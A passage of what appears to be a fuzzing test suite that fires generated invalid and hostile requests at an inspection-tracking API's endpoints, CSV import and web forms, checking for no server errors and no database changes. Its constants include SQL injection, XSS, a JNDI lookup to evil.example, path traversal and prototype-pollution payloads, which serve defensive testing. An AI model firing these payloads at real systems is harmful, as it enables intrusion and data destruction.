// 10,000 generated invalid and hostile requests (fast-check) over every write endpoint (JSON, the CSV import
// `POST /inspections/import`, and every web form POST, signed in with a valid CSRF token or with a missing or
// wrong one) and every list query: never a 5xx, every one a 4xx (GETs included: the generators make only
// requests that are invalid), and none changes a row (a checksum of every table before and after).
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import pg from 'pg';
import { TEST_PASSWORD, startApi, type RunningApi, type TestUser } from '../support/api-harness.js';
import { tableChecksum } from '../support/db-snapshot.js';
import { pageClient, signedInPages, type PageClient } from '../support/page-client.js';

const INVALID_REQUESTS = 10_000;
const VALID_HOSTILE_REQUESTS = 300;
const CONCURRENCY = 20;
/** Fixed, so that a failure can be replayed; print it in the report. */
const SEED = Number(process.env.HOSTILE_SEED ?? 20261129);

type Kind = 'string' | 'uuid' | 'date' | 'int' | 'enum' | 'bool' | 'email' | 'duration' | 'array' | 'url';
interface Field {
  name: string;
  kind: Kind;
  values?: readonly string[];
  /** Required: a body without it is invalid. */
  required?: boolean;
}
interface Endpoint {
  method: 'POST' | 'PATCH';
  /** A path; `{rec}` and `{inspection}` become real ids, so that validation, not a 404, is what answers. */
  path: string;
  /** `signOut`: a session of the liaison officer's own, kept for the sign-out form. */
  as: 'admin' | 'lead' | 'liaison' | 'anonymous' | 'signOut';
  fields: readonly Field[];
  valid: (ids: Ids) => Record<string, unknown>;
}
interface Ids {
  orgA: string;
  lead: string;
  rec: string;
  recVersion: number;
  inspection: string;
  inspectionVersion: number;
  myVersion: number;
  /** A liaison officer an administrator may change (PATCH /users/:id, the user change form). */
  user: string;
  userVersion: number;
}

// ------------------------------------------------------------------ hostile values

const HOSTILE_TEXT = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '"; DELETE FROM audit_events; --',
  '1); SELECT pg_sleep(10); --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  'a\u0000b',
  '\u202e\u0635\u0648\u0631\u0629',
  '\ud83d\ude00\u0301\u200d',
  '\ud800',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  '\r\nX-Injected: 1',
  ' ',
  '',
];
const HUGE = ['x'.repeat(10_001), 'é'.repeat(50_000), '<'.repeat(90_000)];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
);

/** Deep nesting: arrays or objects `depth` levels down. */
const deep = fc.tuple(fc.integer({ min: 40, max: 1000 }), fc.boolean()).map(([depth, arrays]) => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = arrays ? [value] : { a: value };
  return value;
});

const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constantFrom(1e308, -0, Number.MAX_SAFE_INTEGER + 2),
  fc.array(fc.oneof(fc.integer(), hostileString), { maxLength: 5 }),
  fc.dictionary(hostileString, fc.oneof(fc.integer(), hostileString), { maxKeys: 4 }),
  fc.constant({ $gt: '' }),
  fc.constant({ __proto__: { polluted: 'yes' } }),
  deep,
);

const notUuid = fc.oneof(
  hostileString.filter((s) => !/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(s)),
  fc.constantFrom(
    '00000000-0000-0000-0000-00000000000g',
    '{00000000-0000-0000-0000-000000000000}',
    "00000000-0000-0000-0000-000000000000' OR 1=1",
  ),
);
const notDate = fc.oneof(
  fc.constantFrom(
    '2026-02-30',
    '2026-13-01',
    '31/03/2026',
    'tomorrow',
    '+275760-09-13T00:00:00Z',
    '0000-00-00',
    '2026-03-31T25:61',
    '1e10',
    'NaN',
  ),
  hostileString.map((s) => `x${s}`),
);
const notInt = fc.oneof(
  fc.double({ noInteger: true }),
  hostileString,
  fc.constantFrom('1', '1.0', 'NaN', 'Infinity'),
  fc.constant(Number.NaN),
);
const notDuration = fc.oneof(
  fc.constantFrom('P', 'PT', 'P-1D', 'P0.5D', '-P1D', 'P1DT', 'P99999999999999999999D', 'PT1.5.5S', 'six weeks'),
  hostileString.map((s) => `x${s}`),
);

/**
 * A value that the field can never accept (JSON has no NaN or Infinity: they would arrive as null, which an optional
 * field takes).
 */
function invalidFor(field: Field): fc.Arbitrary<unknown> {
  return invalidValueFor(field).filter((v) => v !== undefined && JSON.stringify(v) !== 'null');
}

function invalidValueFor(field: Field): fc.Arbitrary<unknown> {
  const nonString = wrongType.filter((v) => typeof v !== 'string');
  switch (field.kind) {
    case 'string':
      return nonString;
    case 'uuid':
      return fc.oneof(notUuid, nonString);
    case 'date':
      return fc.oneof(notDate, nonString);
    case 'int':
      return notInt;
    case 'bool':
      return fc.oneof(hostileString, fc.integer(), fc.constant({}));
    case 'enum':
      return fc.oneof(
        hostileString.filter((s) => !field.values!.includes(s)),
        nonString,
      );
    case 'email':
      return fc.oneof(
        hostileString.filter((s) => !s.includes('@')),
        nonString,
      );
    case 'duration':
      return fc.oneof(notDuration, nonString);
    case 'url':
      return fc.oneof(fc.constantFrom('javascript:alert(1)', 'not a url', 'http://', '//evil'), nonString);
    case 'array':
      return fc.oneof(
        hostileString,
        fc.integer(),
        fc.constant({}),
        fc.array(
          wrongType.filter((v) => typeof v !== 'object' || v === null),
          { minLength: 1, maxLength: 3 },
        ),
        deep.filter(() => true),
      );
  }
}

// ------------------------------------------------------------------ endpoints

const required = (name: string, kind: Kind, values?: readonly string[]): Field => ({
  name,
  kind,
  values,
  required: true,
});
const optional = (name: string, kind: Kind, values?: readonly string[]): Field => ({ name, kind, values });

const ROLES = ['admin', 'manager', 'inspector', 'liaison'];
const ACTIONS = ['submit_plan', 'update_progress', 'propose_closure', 'authorise_closure', 'return', 'close', 'reopen'];

const ENDPOINTS: Endpoint[] = [
  {
    method: 'POST',
    path: '/auth/login',
    as: 'anonymous',
    fields: [required('email', 'email'), required('password', 'string')],
    valid: () => ({ email: 'nobody@hostile.test', password: 'not-the-password' }),
  },
  {
    method: 'PATCH',
    path: '/users/me',
    as: 'liaison',
    fields: [required('version', 'int'), required('reminderDelivery', 'enum', ['immediate', 'daily_digest'])],
    valid: (ids) => ({ version: ids.myVersion, reminderDelivery: 'daily_digest' }),
  },
  {
    method: 'POST',
    path: '/users',
    as: 'admin',
    fields: [
      required('email', 'email'),
      required('name', 'string'),
      optional('password', 'string'),
      required('role', 'enum', ROLES),
      required('organisationIds', 'array'),
    ],
    valid: (ids) => ({
      email: 'new@hostile.test',
      name: 'New',
      password: TEST_PASSWORD,
      role: 'liaison',
      organisationIds: [ids.orgA],
    }),
  },
  {
    method: 'POST',
    path: '/organisations',
    as: 'admin',
    fields: [required('name', 'string'), required('code', 'string')],
    valid: () => ({ name: 'Hostile Force', code: 'HOSTILE' }),
  },
  {
    method: 'POST',
    path: '/follow-up-policies',
    as: 'admin',
    fields: [
      required('programme', 'string'),
      required('actionPlanAfter', 'duration'),
      required('revisitAfter', 'duration'),
    ],
    valid: () => ({ programme: 'Hostile programme', actionPlanAfter: 'P6W', revisitAfter: 'P6M' }),
  },
  {
    method: 'POST',
    path: '/inspections',
    as: 'lead',
    fields: [
      required('organisationId', 'uuid'),
      required('title', 'string'),
      required('programme', 'string'),
      required('publishedAt', 'date'),
      required('leadInspectorId', 'uuid'),
      optional('actionPlanDueAt', 'date'),
      optional('revisitDueAt', 'date'),
      required('recommendations', 'array'),
    ],
    valid: (ids) => ({
      organisationId: ids.orgA,
      title: 'Hostile inspection',
      programme: 'PEEL',
      publishedAt: '2026-01-05T00:00:00Z',
      leadInspectorId: ids.lead,
      recommendations: [{ reference: '1', text: 'Do it', timeframe: 'P3M' }],
    }),
  },
  {
    method: 'PATCH',
    path: '/inspections/{inspection}',
    as: 'lead',
    fields: [
      required('version', 'int'),
      optional('title', 'string'),
      optional('publishedAt', 'date'),
      optional('actionPlanDueAt', 'date'),
      optional('revisitDueAt', 'date'),
    ],
    valid: (ids) => ({ version: ids.inspectionVersion, title: 'Renamed' }),
  },
  {
    method: 'POST',
    path: '/recommendations/{rec}/transitions',
    as: 'liaison',
    fields: [
      required('action', 'enum', ACTIONS),
      required('version', 'int'),
      optional('comment', 'string'),
      optional('response', 'enum', ['agreed', 'partly_agreed', 'not_agreed']),
      optional('owner', 'string'),
      optional('targetDate', 'date'),
      optional('rag', 'enum', ['green', 'amber', 'red']),
      optional('evidence', 'array'),
      optional('outcome', 'enum', ['implemented', 'not_implemented', 'superseded']),
    ],
    valid: (ids) => ({
      action: 'submit_plan',
      version: ids.recVersion,
      response: 'agreed',
      owner: 'Owner',
      actions: 'Act',
      targetDate: '2030-01-31',
    }),
  },
  {
    method: 'PATCH',
    path: '/users/{user}',
    as: 'admin',
    fields: [
      required('version', 'int'),
      optional('name', 'string'),
      optional('role', 'enum', ROLES),
      optional('organisationIds', 'array'),
      optional('active', 'bool'),
    ],
    valid: (ids) => ({ version: ids.userVersion, name: 'Renamed' }),
  },
];

/** Nested payloads: an element of `recommendations` or `evidence` broken in one field. */
const nestedBreakage: Record<string, fc.Arbitrary<unknown>> = {
  recommendations: fc
    .oneof(
      fc.record({ reference: fc.constant('1'), text: wrongType.filter((v) => typeof v !== 'string') }),
      fc.record({ reference: wrongType.filter((v) => typeof v !== 'string'), text: fc.constant('t') }),
      fc.record({
        reference: fc.constant('1'),
        text: fc.constant('t'),
        timeframe: notDuration.filter((s) => s !== 'immediately'),
      }),
      fc.record({ reference: fc.constant('1'), text: fc.constant('t'), dueAt: notDate }),
      fc.record({
        reference: fc.constant('1'),
        text: fc.constant('t'),
        __proto__: fc.constant({ polluted: 'yes' }),
        extra: hostileString,
      }),
    )
    .map((broken) => [{ reference: '0', text: 'fine' }, broken]),
  evidence: fc
    .oneof(
      fc.record({ title: wrongType.filter((v) => typeof v !== 'string') }),
      fc.record({ title: fc.constant('t'), url: fc.constantFrom('javascript:alert(1)', 'x') }),
    )
    .map((e) => [e]),
};

type Mutation = (body: Record<string, unknown>) => void;

/** One mutation that makes any body of this endpoint invalid, then up to two more hostile ones. */
function invalidBody(endpoint: Endpoint): fc.Arbitrary<{ mutate: Mutation[]; note: string }> {
  const known = new Set(endpoint.fields.map((f) => f.name).concat(['actions']));
  const byField = endpoint.fields.map((field) =>
    invalidFor(field).map((value) => ({
      mutate: [(b: Record<string, unknown>) => void (b[field.name] = value)],
      note: `${field.name}: wrong`,
    })),
  );
  const unknownKey = fc
    .tuple(
      fc
        .oneof(
          fc.constantFrom(
            '__proto__',
            'constructor',
            'prototype',
            'isAdmin',
            'role ',
            '$where',
            'id',
            'organisationId ',
          ),
          hostileString,
        )
        .filter((k) => !known.has(k)),
      fc.oneof(hostileString, wrongType),
    )
    .map(([key, value]) => ({
      // JSON.parse makes "__proto__" an own key, as an attacker's request body would.
      mutate: [
        (b: Record<string, unknown>) =>
          void Object.defineProperty(b, key, { value, enumerable: true, configurable: true, writable: true }),
      ],
      note: `unknown key ${JSON.stringify(key).slice(0, 30)}`,
    }));
  const missing = endpoint.fields
    .filter((f) => f.required)
    .map((f) =>
      fc.constant({ mutate: [(b: Record<string, unknown>) => void delete b[f.name]], note: `${f.name}: missing` }),
    );
  const nested = endpoint.fields
    .filter((f) => nestedBreakage[f.name])
    .map((f) =>
      nestedBreakage[f.name].map((value) => ({
        mutate: [(b: Record<string, unknown>) => void (b[f.name] = value)],
        note: `${f.name}: broken element`,
      })),
    );
  const invalidating = fc.oneof(...byField, unknownKey, ...missing, ...nested);
  // Extra noise that may or may not be valid on its own: hostile text in the string fields.
  const noise = fc.array(
    fc.tuple(
      fc.constantFrom(...endpoint.fields.filter((f) => f.kind === 'string').map((f) => f.name), 'comment'),
      hostileString,
    ),
    { maxLength: 2 },
  );
  return fc.tuple(invalidating, noise).map(([inv, extra]) => ({
    // Noise first, the invalidating mutation last, so that it always stands.
    mutate: [
      ...extra
        .filter(([name]) => known.has(name))
        .map(
          ([name, value]) =>
            (b: Record<string, unknown>) =>
              void (b[name] = value),
        ),
      ...inv.mutate,
    ],
    note: inv.note,
  }));
}

// ------------------------------------------------------------------ list queries

const LIST_QUERIES: { path: string; params: Record<string, fc.Arbitrary<unknown>> }[] = [
  {
    path: '/recommendations',
    params: {
      organisationId: notUuid,
      inspectionId: notUuid,
      status: hostileString,
      overdue: hostileString,
      priority: hostileString,
      dueBefore: notDate,
    },
  },
  { path: '/inspections', params: { organisationId: notUuid } },
  { path: '/organisations', params: {} },
  { path: '/notifications', params: { recommendationId: notUuid, kind: hostileString, status: hostileString } },
  { path: '/users', params: {} },
  { path: '/recommendations/{rec}/history', params: {} },
];
const badCursor = fc.oneof(
  hostileString,
  fc.jsonValue().map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  // [text, uuid] is a real cursor of the lists ordered by name: the text half may be anything only beside a bad id.
  fc.tuple(hostileString, notUuid).map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  fc
    .tuple(fc.oneof(fc.integer(), fc.constant(null)), fc.uuid())
    .map((v) => Buffer.from(JSON.stringify(v)).toString('base64url')),
  fc.constantFrom('W10', 'e30', 'bnVsbA', '%', '=='),
);
const badLimit = fc.oneof(
  fc.constantFrom('0', '-1', '501', '1e309', '1.5', 'NaN', '9'.repeat(400)),
  hostileString.filter((s) => !/^\s*\d+\s*$/.test(s) || !(Number(s) >= 1 && Number(s) <= 500)),
);

/** Percent-encodes the UTF-8 bytes (an unpaired surrogate is sent as U+FFFD, as a browser would). */
const pct = (text: string): string =>
  [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

function hostileQuery(list: (typeof LIST_QUERIES)[number]): fc.Arbitrary<string> {
  const own = Object.entries(list.params).map(([name, arb]) =>
    arb.map((value) => [[name, value]] as [string, unknown][]),
  );
  const generic = [
    badCursor.map((value) => [['cursor', value]] as [string, unknown][]),
    badLimit.map((value) => [['limit', value]] as [string, unknown][]),
    fc.tuple(hostileString, hostileString).map(([k, v]) => [[`x${k}`, v]] as [string, unknown][]),
  ];
  // An empty value is no value at all (the parameter is left out): never an invalid request.
  return fc
    .oneof(...own, ...generic)
    .filter((pairs) => pairs.every(([, v]) => v !== ''))
    .map((pairs) => pairs.map(([k, v]) => `${pct(k)}=${pct(typeof v === 'string' ? v : JSON.stringify(v))}`).join('&'));
}

/** Garbage in the path where an id belongs (never empty: `/organisations/` is the list). */
const badPathIds = notUuid.filter((id) => id !== '').map((id) => pct(id));

// ------------------------------------------------------------------ the CSV import

/**
 * POST /inspections/import takes the inspection's fields as query parameters (strings) and the rows as a text/csv body.
 */
const IMPORT_QUERY = (ids: Ids): Record<string, string> => ({
  organisationId: ids.orgA,
  title: 'Imported',
  programme: 'PEEL',
  publishedAt: '2026-01-05T00:00:00Z',
  leadInspectorId: ids.lead,
});
const GOOD_CSV = 'reference,text\n1,Do it\n';
const nonEmpty = (arb: fc.Arbitrary<string>) => arb.filter((v) => v.trim() !== '');
/** A query value each field can never take (strings, as a query carries them). */
const badQueryValue: Record<string, fc.Arbitrary<string>> = {
  organisationId: nonEmpty(notUuid),
  leadInspectorId: nonEmpty(notUuid),
  publishedAt: nonEmpty(notDate),
  actionPlanDueAt: nonEmpty(notDate),
  revisitDueAt: nonEmpty(notDate),
  title: fc.integer({ min: 501, max: 3000 }).map((n) => 'x'.repeat(n)),
  programme: fc.integer({ min: 201, max: 3000 }).map((n) => 'p'.repeat(n)),
};
const rows = (n: number) => ['reference,text', ...Array.from({ length: n }, (_, i) => `R${i},Text ${i}`)].join('\n');
/** Files the import refuses, each for a reason of its own. */
const BAD_CSV: readonly (string | Buffer)[] = [
  '',
  'reference\n1\n',
  'text\nOnly text\n',
  'reference,text\n',
  'reference,text\n1,"never closed\n',
  'reference,text\n1,A\n1,Again\n',
  'reference,text,colour\n1,A,red\n',
  'reference,text,due date\n1,A,31/02/2019\n',
  'reference,text,priority\n1,A,maybe\n',
  `reference,text\n1,${'x'.repeat(10_001)}\n`,
  `reference,text\n${'r'.repeat(41)},A\n`,
  'reference,text\n1,A,extra,cells\n',
  Buffer.from([0xff, 0xfe, 0x00, 0x41, 0xc3, 0x28]),
  rows(501),
  rows(3000),
];
const importProbe = (ids: Ids): fc.Arbitrary<Probe> => {
  const withQuery = (
    query: Record<string, string>,
    csv: string | Buffer,
    contentType: string,
    note: string,
  ): Probe => ({
    method: 'POST',
    path: `/inspections/import?${new URLSearchParams(query).toString()}`,
    as: 'lead',
    csv: { body: csv, contentType },
    note: `import ${note}`,
  });
  const badField = fc
    .constantFrom(...Object.keys(badQueryValue))
    .chain((field) =>
      badQueryValue[field].map((v) =>
        withQuery({ ...IMPORT_QUERY(ids), [field]: v }, GOOD_CSV, 'text/csv', `${field}: wrong`),
      ),
    );
  const missing = fc
    .constantFrom('organisationId', 'title', 'programme', 'publishedAt', 'leadInspectorId')
    .map((field) => {
      const query = IMPORT_QUERY(ids);
      delete query[field];
      return withQuery(query, GOOD_CSV, 'text/csv', `${field}: missing`);
    });
  const unknownKey = fc
    .tuple(nonEmpty(hostileString), hostileString)
    .map(([k, v]) => withQuery({ ...IMPORT_QUERY(ids), [`x${k}`]: v }, GOOD_CSV, 'text/csv', 'unknown key'));
  const badFile = fc
    .constantFrom(...BAD_CSV)
    .map((csv) => withQuery(IMPORT_QUERY(ids), csv, 'text/csv', `bad file ${String(csv).slice(0, 20)}`));
  const garbage = fc
    .string({ unit: 'binary', maxLength: 300 })
    .map((csv) => withQuery(IMPORT_QUERY(ids), csv, 'text/csv', 'garbage file'));
  const wrongType = fc
    .constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded')
    .map((type) => withQuery(IMPORT_QUERY(ids), GOOD_CSV, type, `as ${type}`));
  return fc.oneof(badField, missing, unknownKey, badFile, garbage, wrongType);
};

// ------------------------------------------------------------------ the web forms

interface FormSpec {
  path: (ids: Ids) => string;
  as: Endpoint['as'];
  /** A form that would be accepted as it is. */
  valid: (ids: Ids) => Record<string, string>;
  /** Breakages: each makes the form invalid on its own (a field missing, empty, too long or not one of its values). */
  breaks: fc.Arbitrary<[string, string | undefined]>[];
  multipart?: boolean;
}
const missingField = (name: string) => fc.constant<[string, string | undefined]>([name, undefined]);
const fieldValue = (name: string, arb: fc.Arbitrary<string>) => arb.map((v): [string, string | undefined] => [name, v]);
const notIn = (values: readonly string[]) => hostileString.filter((v) => !values.includes(v.trim()));
const tooLong = (max: number) => fc.integer({ min: max + 1, max: max + 2000 }).map((n) => 'y'.repeat(n));
const notVersion = hostileString.filter((v) => !/^\d{1,9}$/.test(v));
const notDay = fc.oneof(
  fc.constantFrom('32', '0', '-1', '31.5', '1e3', 'x'),
  nonEmpty(hostileString).filter((v) => !/^\s*\d{1,2}\s*$/.test(v)),
);
const notPeriod = fc.constantFrom('soon', 'P', 'weeks', '', '<script>', 'P-1D', 'six', '0');

const FORMS: FormSpec[] = [
  {
    path: () => '/account/notifications',
    as: 'liaison',
    valid: (ids) => ({ version: String(ids.myVersion), reminderDelivery: 'daily_digest' }),
    breaks: [
      missingField('reminderDelivery'),
      fieldValue('reminderDelivery', notIn(['immediate', 'daily_digest'])),
      missingField('version'),
      fieldValue('version', notVersion),
    ],
  },
  {
    path: () => '/admin/organisations/new',
    as: 'admin',
    valid: () => ({ name: 'Form force', code: 'FORM-FORCE' }),
    breaks: [
      missingField('name'),
      fieldValue('name', tooLong(200)),
      missingField('code'),
      fieldValue(
        'code',
        nonEmpty(hostileString).filter((v) => !/^\s*[A-Za-z0-9-]{1,40}\s*$/.test(v)),
      ),
    ],
  },
  {
    path: (ids) => `/admin/organisations/${ids.orgA}/sign-in`,
    as: 'admin',
    valid: () => ({ version: '1', ssoOnly: 'no' }),
    breaks: [
      missingField('ssoOnly'),
      fieldValue('ssoOnly', notIn(['yes', 'no'])),
      missingField('version'),
      fieldValue('version', notVersion),
    ],
  },
  {
    path: () => '/admin/policies/new',
    as: 'admin',
    valid: () => ({ programme: 'Form programme', actionPlanAfter: '6 weeks', revisitAfter: '6 months' }),
    breaks: [
      missingField('programme'),
      fieldValue('programme', tooLong(200)),
      fieldValue('actionPlanAfter', notPeriod),
      fieldValue('revisitAfter', notPeriod),
    ],
  },
  {
    path: () => '/admin/users/new',
    as: 'admin',
    valid: (ids) => ({
      name: 'Form user',
      email: 'form-user@hostile.test',
      role: 'liaison',
      organisationIds: ids.orgA,
    }),
    // The form invites: it has no password field, so none can be missing or weak.
    breaks: [
      missingField('name'),
      fieldValue(
        'email',
        hostileString.filter((v) => !v.includes('@')),
      ),
      fieldValue('role', notIn(ROLES)),
    ],
  },
  {
    path: (ids) => `/admin/users/${ids.user}`,
    as: 'admin',
    valid: (ids) => ({
      version: String(ids.userVersion),
      name: 'Changed',
      role: 'liaison',
      organisationIds: ids.orgA,
      active: 'yes',
    }),
    breaks: [
      fieldValue('version', notVersion),
      missingField('name'),
      fieldValue('role', notIn(ROLES)),
      fieldValue('active', notIn(['yes', 'no'])),
    ],
  },
  {
    path: (ids) => `/inspections/${ids.inspection}/dates`,
    as: 'lead',
    valid: (ids) => ({
      version: String(ids.inspectionVersion),
      'publishedAt-day': '5',
      'publishedAt-month': '1',
      'publishedAt-year': '2026',
      'actionPlanDueAt-day': '',
      'actionPlanDueAt-month': '',
      'actionPlanDueAt-year': '',
      'revisitDueAt-day': '',
      'revisitDueAt-month': '',
      'revisitDueAt-year': '',
    }),
    breaks: [
      fieldValue('version', notVersion),
      fieldValue('publishedAt-day', notDay),
      fieldValue('publishedAt-month', fc.constantFrom('13', '0', 'x')),
      fieldValue('publishedAt-year', fc.constantFrom('0', '99999', 'x', '-1')),
    ],
  },
  // Publishing a draft: the form sends only the version it showed.
  {
    path: (ids) => `/inspections/${ids.inspection}/publish`,
    as: 'lead',
    valid: (ids) => ({ version: String(ids.inspectionVersion) }),
    breaks: [missingField('version'), fieldValue('version', notVersion)],
  },
  {
    path: (ids) => `/recommendations/${ids.rec}`,
    as: 'liaison',
    valid: (ids) => ({
      action: 'submit_plan',
      version: String(ids.recVersion),
      response: 'agreed',
      owner: 'Owner',
      actions: 'Act',
      'targetDate-day': '31',
      'targetDate-month': '1',
      'targetDate-year': '2030',
    }),
    breaks: [
      fieldValue('action', notIn(ACTIONS)),
      missingField('action'),
      fieldValue('version', notVersion),
      fieldValue('response', notIn(['agreed', 'partly_agreed', 'not_agreed'])),
      missingField('owner'),
      fieldValue('targetDate-day', notDay),
    ],
  },
  {
    path: () => '/import',
    as: 'lead',
    multipart: true,
    valid: (ids) => ({
      action: 'import',
      organisationId: ids.orgA,
      title: 'Form import',
      programme: 'PEEL',
      'published-day': '5',
      'published-month': '1',
      'published-year': '2026',
      leadInspectorId: ids.lead,
    }),
    breaks: [
      fieldValue('organisationId', nonEmpty(notUuid)),
      missingField('title'),
      fieldValue('title', tooLong(500)),
      fieldValue('published-day', notDay),
      fieldValue('leadInspectorId', nonEmpty(notUuid)),
    ],
  },
  {
    path: () => '/sign-in',
    as: 'anonymous',
    valid: () => ({ email: 'nobody@hostile.test', password: 'not-the-password' }),
    breaks: [
      missingField('email'),
      missingField('password'),
      fieldValue('email', hostileString),
      fieldValue('password', hostileString),
    ],
  },
  // Signing out is valid with any fields: only a missing or wrong CSRF token makes it invalid (below, for every form).
  { path: () => '/sign-out', as: 'signOut', valid: () => ({}), breaks: [] },
];

const formProbe = (ids: Ids): fc.Arbitrary<Probe> => {
  const perForm = FORMS.map((form) => {
    const name = form
      .path(ids)
      .replace(ids.user, ':id')
      .replace(ids.inspection, ':id')
      .replace(ids.rec, ':id')
      .replace(ids.orgA, ':id');
    // A form with one breakage, then hostile noise in other fields (unknown ones are ignored, so never the only fault).
    const broken =
      form.breaks.length === 0
        ? []
        : [
            fc
              .tuple(
                fc.oneof(...form.breaks),
                fc.array(
                  fc.tuple(
                    fc.oneof(fc.constantFrom(...Object.keys(form.valid(ids)), 'comment'), nonEmpty(hostileString)),
                    hostileString,
                  ),
                  { maxLength: 2 },
                ),
              )
              .map(([[field, value], noise]) => {
                const fields: Record<string, string> = { ...form.valid(ids) };
                for (const [k, v] of noise) if (k !== field && !(k in fields)) fields[k] = v;
                if (value === undefined) delete fields[field];
                else fields[field] = value;
                return {
                  method: 'POST',
                  path: form.path(ids),
                  as: form.as,
                  form: { fields, csrf: 'valid' as const, multipart: form.multipart },
                  note: `form ${name} ${field}: ${value === undefined ? 'missing' : 'wrong'}`,
                } satisfies Probe;
              }),
          ];
    // Any form without its CSRF token, or with another session's: refused before anything is read.
    const csrf = fc.constantFrom<'missing' | 'wrong'>('missing', 'wrong').map((csrfKind): Probe => ({
      method: 'POST',
      path: form.path(ids),
      as: form.as,
      form: { fields: form.valid(ids), csrf: csrfKind, multipart: form.multipart },
      note: `form ${name} csrf ${csrfKind}`,
    }));
    return fc.oneof(...broken, csrf);
  });
  return fc.oneof(...perForm);
};

// ------------------------------------------------------------------ the run

interface Probe {
  method: string;
  path: string;
  as: Endpoint['as'];
  body?: unknown;
  raw?: string;
  /** A CSV import: the body as it is, with this content type, sent by `as`. */
  csv?: { body: string | Buffer; contentType: string };
  /** A web form, posted by `as`'s signed-in page client with its CSRF token (or without one, or another session's). */
  form?: { fields: Record<string, string>; csrf: 'valid' | 'missing' | 'wrong'; multipart?: boolean };
  note: string;
}

async function runAll<T>(items: readonly T[], worker: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < items.length) await worker(items[next++]);
    }),
  );
}

describe('hostile payloads', () => {
  let api: RunningApi;
  let db: pg.Client;
  let lead: TestUser;
  let liaison: TestUser;
  let ids: Ids;
  let pages: Record<Endpoint['as'], PageClient>;
  const csrfTokens: Record<string, string> = {};

  beforeAll(async () => {
    // Failed logins are part of the run: a limit that high keeps them answering 401, not 429 (both are fine).
    api = await startApi({ LOGIN_MAX_FAILURES: '100000' });
    const org = await api.createOrganisation({ name: 'Hostile Force A', code: 'HOSTILE-A' });
    [lead, liaison] = await Promise.all([api.createUser('inspector'), api.createUser('liaison', [org.id])]);
    const inspection = await api.createInspection(lead.token, { organisationId: org.id, leadInspectorId: lead.id });
    const changeable = await api.createUser('liaison', [org.id]);
    ids = {
      orgA: org.id,
      lead: lead.id,
      rec: inspection.recommendations[0].id,
      recVersion: inspection.recommendations[0].version,
      inspection: inspection.id,
      inspectionVersion: inspection.version,
      myVersion: liaison.version,
      user: changeable.id,
      userVersion: changeable.version,
    };
    // The web forms' sessions (signed in through the sign-in form) and their CSRF tokens.
    const anonymous = pageClient(api.baseUrl);
    pages = {
      admin: await signedInPages(api.baseUrl, api.admin.email, api.admin.password),
      lead: await signedInPages(api.baseUrl, lead.email, TEST_PASSWORD),
      liaison: await signedInPages(api.baseUrl, liaison.email, TEST_PASSWORD),
      signOut: await signedInPages(api.baseUrl, liaison.email, TEST_PASSWORD),
      anonymous,
    };
    for (const [as, client] of Object.entries(pages))
      csrfTokens[as] = await client.csrf(as === 'anonymous' ? '/sign-in' : '/account');
    db = new pg.Client({ connectionString: api.dbUrl });
    await db.connect();
  }, 60_000);

  afterAll(async () => {
    await db?.end();
    await api?.close();
  });

  const clientFor = (as: Endpoint['as']) =>
    as === 'admin' ? api.adminApi : as === 'lead' ? lead.api : as === 'liaison' ? liaison.api : api.client(null);
  const fill = (path: string) =>
    path.replace('{rec}', ids.rec).replace('{inspection}', ids.inspection).replace('{user}', ids.user);

  /**
   * The status, or 0 when the server cut the connection: Node answers an oversized body (413) or URL
   * (431) and closes while the client may still be writing, which the client sees as a reset. Only an
   * oversized request may end that way; any other reset fails the run.
   */
  async function send(probe: Probe): Promise<number> {
    try {
      if (probe.form) {
        const client = pages[probe.as];
        const csrf =
          probe.form.csrf === 'valid'
            ? [['_csrf', csrfTokens[probe.as]] as [string, string]]
            : probe.form.csrf === 'wrong'
              ? [['_csrf', csrfTokens.admin === csrfTokens[probe.as] ? 'x' : csrfTokens.admin] as [string, string]]
              : [];
        const fields = [...csrf, ...Object.entries(probe.form.fields)];
        const multipart = probe.form.multipart
          ? { field: 'csvFile', name: 'recommendations.csv', content: GOOD_CSV }
          : undefined;
        return (await client.post(probe.path, fields, multipart)).status;
      }
      if (probe.csv !== undefined)
        return (await lead.api.raw(probe.method, probe.path, probe.csv.body, probe.csv.contentType)).status;
      if (probe.raw !== undefined) {
        const headers: Record<string, string> = {
          'content-type': 'application/json',
          authorization: `Bearer ${api.admin.token}`,
        };
        const response = await fetch(`${api.baseUrl}${probe.path}`, { method: probe.method, headers, body: probe.raw });
        await response.arrayBuffer();
        return response.status;
      }
      return (await clientFor(probe.as).request(probe.method, probe.path, probe.body)).status;
    } catch (error) {
      const oversized =
        probe.path.length > 8_000 || (JSON.stringify(probe.body ?? probe.raw ?? '')?.length ?? 0) > 100_000;
      if (oversized) return 0;
      throw new Error(`${probe.note}: ${(error as Error).message} (${String((error as Error).cause)})`, {
        cause: error,
      });
    }
  }

  function invalidProbes(count: number): Probe[] {
    const perEndpoint = ENDPOINTS.map((endpoint) =>
      invalidBody(endpoint).map((m): Probe => {
        const body = structuredClone(endpoint.valid(ids));
        for (const mutate of m.mutate) mutate(body);
        return {
          method: endpoint.method,
          path: fill(endpoint.path),
          as: endpoint.as,
          body,
          note: `${endpoint.method} ${endpoint.path} ${m.note}`,
        };
      }),
    );
    const lists = LIST_QUERIES.map((list) =>
      hostileQuery(list).map((q): Probe => ({
        method: 'GET',
        path: `${fill(list.path)}?${q}`,
        as: 'admin',
